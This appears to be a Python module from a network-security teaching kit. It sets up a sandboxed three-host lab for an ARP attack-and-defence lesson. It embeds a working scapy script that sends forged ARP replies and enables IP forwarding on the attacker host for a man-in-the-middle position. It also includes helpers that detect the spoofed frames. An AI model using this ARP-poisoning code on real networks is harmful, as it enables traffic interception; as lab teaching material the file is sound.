"""The three hosts of lesson 16 for its claims: a victim, a server, an attacker, on one bridge."""

from __future__ import annotations

import sys
from typing import TYPE_CHECKING

from nslabkit.course.claims.chapter import ip, one_ping, sysctl
from nslabkit.course.closed_page import closed
from nslabkit.net import namespaces, neighbours

if TYPE_CHECKING:
    from nslabkit.capture import Packet, Recording
    from nslabkit.net.neighbours import Neighbour

LESSON = "16_attack_and_defence"
ADDRESSES = {"victim": "172.16.0.1", "server": "172.16.0.2", "attacker": "172.16.0.3"}
MACS = {name: f"02:00:00:00:00:0{address[-1]}" for name, address in ADDRESSES.items()}
EVERYWHERE = (*ADDRESSES, *(f"port-{name}" for name in ADDRESSES))  # both ends of each wire

# Sends ARP replies, as the lesson's program does: claimed, target, its MAC, the sender's, how many.
_CLAIMER = """
import sys
from scapy.all import ARP, Ether, sendp
claimed, target, mac, mine, count = sys.argv[1:]
frame = Ether(src=mine, dst=mac)
frame /= ARP(op="is-at", hwsrc=mine, psrc=claimed, hwdst=mac, pdst=target)
sendp(frame, iface="eth0", count=int(count), inter=0.5, verbose=False)
"""


def joined() -> None:
    """Join the three by a bridge, and have all of them know each other.

    Each has asked for itself, so that nobody confirms an entry, and thereby puts a false one
    right, before an experiment has looked.
    """
    ip("link add br0 type bridge")
    ip("link set br0 up")
    for name, address in ADDRESSES.items():
        ip(f"netns add {name}")
        quiet = ["sysctl", "-qw", "net.ipv6.conf.default.disable_ipv6=1"]
        namespaces.namespace(name).run(quiet, quiet=True)  # without IPv6 there is no such key
        ip(f"link add port-{name} type veth peer name eth0 netns {name}")
        ip(f"-n {name} link set eth0 address {MACS[name]} up")
        ip(f"-n {name} addr add {address}/24 dev eth0")
        ip(f"link set port-{name} master br0 up")
    for name, own in ADDRESSES.items():
        ip(f"-n {name} neigh flush all")
        for address in ADDRESSES.values():
            if address != own:
                one_ping(namespaces.namespace(name), address)


def claim_address(name: str, to: str, count: int = 3) -> None:
    """Let the attacker claim one host's address towards another: so many ARP replies.

    The kernel does not change an entry twice within a second, hence more than one.

    Raises
    ------
    SandboxError, NotSupportedError
        This is no machine of its own, or something leads out of it.
    """
    closed()
    words = [ADDRESSES[name], ADDRESSES[to], MACS[to], MACS["attacker"], str(count)]
    command = [sys.executable, "-c", _CLAIMER, *words]
    namespaces.namespace("attacker").run(command, check=True, quiet=True)


def as_router() -> None:
    """Let the attacker pass on what it gets, and tell nobody of a shorter way."""
    keys = ["ip_forward=1", "conf.all.send_redirects=0", "conf.eth0.send_redirects=0"]
    sysctl(namespaces.namespace("attacker"), *(f"net.ipv4.{key}" for key in keys))


def entry(name: str, far: str) -> Neighbour | None:
    """Return what one host's neighbour table has of another."""
    table = neighbours.neighbours(name)
    return next((one for one in table if one.address == ADDRESSES[far]), None)


def claims_of(recording: Recording, name: str) -> list[Packet]:
    """Return the frames in which somebody else says that it has a host's address."""
    return [
        one
        for one in recording.packets
        if (arp := one.dissection.header("ARP")) is not None
        and arp["sender IP"] == ADDRESSES[name]
        and arp["sender MAC"] != MACS[name]
    ]
